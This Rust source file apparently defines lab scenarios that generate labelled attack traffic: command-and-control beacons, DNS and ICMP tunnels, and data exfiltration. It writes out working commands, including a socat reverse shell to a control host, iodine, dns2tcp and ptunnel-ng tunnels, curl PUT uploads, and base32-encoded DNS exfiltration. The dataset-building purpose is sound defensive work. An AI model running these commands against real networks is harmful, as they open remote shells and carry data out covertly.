//! Command and control, tunnels, and data that leaves.

use super::super::recipe::{
    ATTACK, Check, Ends, FAR, Lane, Mark, Program, Ready, Recipe, Variant, WAN, inside, on,
    outside, variant,
};
use super::names::{AUTH, RESOLVER};
use super::services::{NGINX, SSHD};

/// A host inside that calls one outside. Its other traffic is not the attack's.
const CALL: Recipe = Recipe {
    roles: &[inside("victim", 1), outside("control", 1)],
    marks: &[Mark::Between("victim", "control")],
    fails: "control",
    gap_s: 900,
    ..ATTACK
};

static UDP_CONTROL: Program = Program {
    name: "udp-control",
    packages: &["python3"],
    start: "exec python3 $SCRATCH/beacon.py serve 4444",
    ready: Ready::Udp(4444),
};

/// Intervals and jitter of short calls: up to a few minutes.
const BEATS: &[Variant] = &[
    variant("s2", &[("EVERY", "2"), ("JITTER", "0"), ("COUNT", "40")]).over(WAN),
    variant(
        "s3_j50",
        &[("EVERY", "3"), ("JITTER", "50"), ("COUNT", "35")],
    )
    .over(WAN)
    .busy(),
    variant(
        "s5_j20",
        &[("EVERY", "5"), ("JITTER", "20"), ("COUNT", "25")],
    )
    .over(FAR),
];

/// Variants that take their time.
const LONG_BEATS: &[Variant] = &[
    variant("s30", &[("EVERY", "30"), ("JITTER", "0"), ("COUNT", "40")]).over(WAN),
    variant(
        "s60_j20",
        &[("EVERY", "60"), ("JITTER", "20"), ("COUNT", "30")],
    )
    .over(FAR),
    variant(
        "s120_j50",
        &[("EVERY", "120"), ("JITTER", "50"), ("COUNT", "20")],
    )
    .over(WAN),
    variant(
        "s300_j10",
        &[("EVERY", "300"), ("JITTER", "10"), ("COUNT", "9")],
    )
    .over(WAN),
];

const HTTP_BEAT: &str =
    "python3 $SCRATCH/beacon.py http http://$CONTROL_URL/api/health $EVERY $JITTER $COUNT";
const HTTPS_BEAT: &str =
    "python3 $SCRATCH/beacon.py http https://$CONTROL_URL/api/health $EVERY $JITTER $COUNT";
const UDP_BEAT: &str = "python3 $SCRATCH/beacon.py udp $CONTROL:4444 $EVERY $JITTER $COUNT";

const BEACON: Recipe = Recipe {
    attack: "c2_beacon_http",
    group: "beacon",
    packages: &["python3"],
    services: &[NGINX.on("control")],
    steps: &[on("victim", HTTP_BEAT)],
    variants: BEATS,
    checks: &[Check::Packets("tcp/80", 150)],
    limit_s: 200,
    ..CALL
};

const LONG: Recipe = Recipe {
    variants: LONG_BEATS,
    lane: Lane::Waiting,
    limit_s: 4_000,
    checks: &[Check::Packets("tcp", 60)],
    ..BEACON
};

/// A tunnel's endpoints.
const TUNNEL: Recipe = Recipe {
    packages: &["iproute2", "iputils-ping"],
    limit_s: 100,
    gap_s: 60,
    ..CALL
};

const SIZES: &[Variant] = &[
    variant("quick", &[("SIZE", "400000"), ("PACE", "0")]).over(WAN),
    variant("busy", &[("SIZE", "150000"), ("PACE", "0.02")])
        .over(WAN)
        .busy(),
];

const EXFILTRATION: Recipe = Recipe {
    attack: "exfiltration",
    limit_s: 100,
    gap_s: 60,
    ..CALL
};

pub const RECIPES: &[Recipe] = &[
    Recipe {
        name: "beacon_http",
        about: "a host inside asks for orders by HTTP (a client of ours)",
        ..BEACON
    },
    Recipe {
        name: "beacon_https",
        about: "a host inside asks for orders over TLS (a client of ours)",
        attack: "c2_beacon_https",
        steps: &[on("victim", HTTPS_BEAT)],
        checks: &[Check::Packets("tcp/443", 150)],
        ..BEACON
    },
    Recipe {
        name: "beacon_udp",
        about: "a host inside asks for orders by datagrams (client and server of ours)",
        attack: "c2_beacon_udp",
        services: &[UDP_CONTROL.on("control")],
        steps: &[on("victim", UDP_BEAT)],
        checks: &[Check::Packets("udp/4444", 40)],
        ..BEACON
    },
    Recipe {
        name: "beacon_http_long",
        about: "a host inside asks for orders by HTTP, at long intervals (a client of ours)",
        ..LONG
    },
    Recipe {
        name: "beacon_https_long",
        about: "a host inside asks for orders over TLS, at long intervals (a client of ours)",
        attack: "c2_beacon_https",
        steps: &[on("victim", HTTPS_BEAT)],
        ..LONG
    },
    Recipe {
        name: "beacon_udp_long",
        about: "a host inside asks for orders by datagrams, at long intervals (client and server of ours)",
        attack: "c2_beacon_udp",
        services: &[UDP_CONTROL.on("control")],
        steps: &[on("victim", UDP_BEAT)],
        checks: &[Check::Packets("udp/4444", 15)],
        ..LONG
    },
    Recipe {
        name: "reverse_shell",
        about: "a shell is given away over one long connection, by socat",
        attack: "c2_reverse_shell",
        group: "socat",
        packages: &["socat"],
        steps: &[
            on(
                "control",
                "(for n in $(seq 12); do echo 'id; ls -l /usr/bin | head -n 40'; sleep $((n % 5 + 1)); done; echo exit) | timeout 90 socat TCP6-LISTEN:443,reuseaddr -",
            ),
            on("victim", "sleep 1; timeout 90 socat TCP:$CONTROL_URL:443 EXEC:sh || true"),
        ],
        variants: &[variant("alone", &[]).over(FAR), variant("busy", &[]).over(WAN).busy()],
        checks: &[Check::Packets("tcp/443", 30)],
        ..CALL
    },
    Recipe {
        name: "iodine_tunnel",
        about: "IP through DNS by iodine, through the site's resolver",
        attack: "dns_tunnel_iodine",
        group: "iodine",
        packages: &["iodine", "iputils-ping"],
        roles: &[inside("victim", 1), inside("resolver", 1), outside("auth", 1)],
        services: &[RESOLVER.on("resolver")],
        marks: &[Mark::Service("victim", "resolver", 53), Mark::Service("resolver", "auth", 53)],
        steps: &[
            on("auth", "exec iodined -f -c -P secret -n $SELF 172.30.0.1/24 t.shop.example").ends(Ends::WithTheScene),
            on(
                "victim",
                "sleep 1; iodine -f -r -P secret -T $TYPE $RESOLVER t.shop.example &
                n=0; until ip addr show dns0 2>/dev/null | grep -q 172.30; do sleep 0.5; n=$((n + 1)); [ $n -lt 60 ]; done
                ping -c 20 -i $GAP -s 400 172.30.0.1",
            ),
        ],
        variants: &[
            variant("null", &[("TYPE", "NULL"), ("GAP", "0.2")]).over(WAN),
            variant("txt", &[("TYPE", "TXT"), ("GAP", "1")]).over(WAN),
            variant("busy", &[("TYPE", "CNAME"), ("GAP", "0.5")]).over(WAN).busy(),
        ],
        checks: &[Check::Packets("udp/53", 80)],
        ..TUNNEL
    },
    Recipe {
        name: "dns2tcp_tunnel",
        about: "SSH through DNS by dns2tcp",
        attack: "dns_tunnel_dns2tcp",
        group: "dns2tcp",
        packages: &["dns2tcp", "openssh-client"],
        services: &[SSHD.on("control")],
        steps: &[
            on(
                "control",
                "printf 'listen = %s\\nport = 53\\nuser = root\\nchroot = /tmp\\ndomain = t.shop.example\\nresources = ssh:127.0.0.1:22\\n' $SELF >conf
                exec dns2tcpd -F -d 1 -f conf",
            )
            .ends(Ends::WithTheScene),
            on(
                "victim",
                "sleep 1; dns2tcpc -z t.shop.example -r ssh -l 2222 -T $TYPE $CONTROL &
                sleep 3; for n in 1 2 3; do timeout 25 ssh $SSH_OPTIONS -p 2222 ops@127.0.0.1 'ls -l /usr/bin | head -n 60'; sleep $GAP; done; true",
            ),
        ],
        variants: &[
            variant("txt", &[("TYPE", "TXT"), ("GAP", "1")]).over(WAN),
            variant("busy", &[("TYPE", "TXT"), ("GAP", "5")]).over(WAN).busy(),
        ],
        checks: &[Check::Packets("udp/53", 100)],
        ..TUNNEL
    },
    Recipe {
        name: "icmp_tunnel",
        about: "SSH through echoes by ptunnel-ng",
        attack: "icmp_tunnel_ptunnel",
        group: "ptunnel-ng",
        packages: &["ptunnel-ng", "openssh-client"],
        services: &[SSHD.on("control")],
        steps: &[
            on("control", "exec ptunnel-ng -r127.0.0.1 -R22").ends(Ends::WithTheScene),
            on(
                "victim",
                "sleep 1; ptunnel-ng -p$CONTROL -l2222 -r127.0.0.1 -R22 &
                sleep 2; for n in 1 2 3; do timeout 25 ssh $SSH_OPTIONS -p 2222 ops@127.0.0.1 'ls -l /usr/bin | head -n 200'; sleep $GAP; done; true",
            ),
        ],
        variants: &[
            variant("quick", &[("GAP", "1")]).over(WAN),
            variant("busy", &[("GAP", "6")]).over(WAN).busy(),
        ],
        checks: &[Check::Packets("icmp", 60)],
        ..TUNNEL
    },
    Recipe {
        name: "exfil_http",
        about: "files leave by HTTP PUT",
        group: "curl",
        packages: &["curl"],
        services: &[NGINX.on("control")],
        steps: &[on(
            "victim",
            "for n in $(seq $COUNT); do sized part $SIZE; curl -sf -T part http://$CONTROL_URL/upload/x$n; sleep 1; done",
        )],
        variants: &[
            variant("large", &[("COUNT", "2"), ("SIZE", "20000000")]).over(WAN),
            variant("busy", &[("COUNT", "10"), ("SIZE", "2000000")]).over(WAN).busy(),
        ],
        checks: &[Check::Packets("tcp/80", 2_000)],
        ..EXFILTRATION
    },
    Recipe {
        name: "exfil_ssh",
        about: "an archive leaves through SSH",
        group: "openssh",
        packages: &["openssh-client"],
        services: &[SSHD.on("control")],
        steps: &[on(
            "victim",
            "head -c $((SIZE * 50)) /dev/urandom | on_host $CONTROL 'cat >/dev/null'",
        )],
        variants: SIZES,
        checks: &[Check::Packets("tcp/22", 2_000)],
        ..EXFILTRATION
    },
    Recipe {
        name: "exfil_dns",
        about: "a file leaves as names that a shell script asks for, through the site's resolver",
        group: "dig",
        packages: &["bind9-dnsutils"],
        roles: &[inside("victim", 1), inside("resolver", 1), outside("auth", 1)],
        services: &[RESOLVER.on("resolver"), AUTH.on("auth")],
        marks: &[Mark::Service("victim", "resolver", 53), Mark::Service("resolver", "auth", 53)],
        steps: &[on(
            "victim",
            "head -c $((SIZE / 20)) /dev/urandom | base32 -w 56 | head -n 200 | while read -r line; do dig +tries=1 +time=1 +short @$RESOLVER $line.x.shop.example; sleep $PACE; done; true",
        )],
        variants: SIZES,
        checks: &[Check::Packets("udp/53", 200)],
        ..EXFILTRATION
    },
    Recipe {
        name: "exfil_icmp",
        about: "a file leaves in echoes that nping sends",
        group: "nping",
        packages: &["nmap"],
        steps: &[on(
            "victim",
            "for n in $(seq 60); do nping --icmp -c 1 --data $(head -c 600 /dev/urandom | od -An -v -tx1 | tr -d ' \\n') $CONTROL >/dev/null; sleep $PACE; done",
        )],
        variants: SIZES,
        checks: &[Check::Packets("icmp", 60)],
        ..EXFILTRATION
    },
];
